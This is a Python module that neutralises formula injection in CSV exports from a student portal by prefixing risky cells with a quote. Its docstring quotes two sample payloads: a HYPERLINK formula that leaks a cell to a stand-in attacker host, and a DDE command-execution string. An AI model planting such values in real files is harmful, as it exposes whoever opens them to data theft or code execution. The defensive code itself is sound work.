"""CSV files the portal hands out (usage reports in the console, the operator pages and the API),
written so that opening one in a spreadsheet cannot run anything.

Names in these files come from LTI launches and roster imports, which students control: a name
such as ``=HYPERLINK("https://evil.example/?"&A2)`` or ``=cmd|' /C calc'!A0`` would be a formula
to Excel or LibreOffice. Every export goes through ``csv_document``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

# OWASP "CSV Injection": a cell starting with one of these is read as a formula (or, for tab and
# carriage return, lets the next character start one).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(cell: object) -> object:
    """``cell`` as a spreadsheet will show it, never run it.

    Only text is neutralised: a string starting with ``=``, ``+``, ``-``, ``@``, tab or carriage
    return gets a leading single quote (the spreadsheet then shows it as text, quote hidden). The
    text is anyone's (a student's name, a course title from an LMS), so every string is treated
    alike, even one the portal wrote. Numbers (``int``, ``float``, ``Decimal``) are the portal's
    own figures, never text a user typed: they are written as they are, so a negative number
    stays a number a spreadsheet can add up. Pass figures as numbers, not as formatted strings.
    """
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def csv_document(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A CSV file (RFC 4180 quoting by the ``csv`` module) of ``header`` and ``rows``, each cell
    through ``spreadsheet_safe``. Floats are written with two decimals (the exports' hours)."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([spreadsheet_safe(name) for name in header])
    for row in rows:
        writer.writerow([f"{cell:.2f}" if isinstance(cell, float) else spreadsheet_safe(cell) for cell in row])
    return out.getvalue()
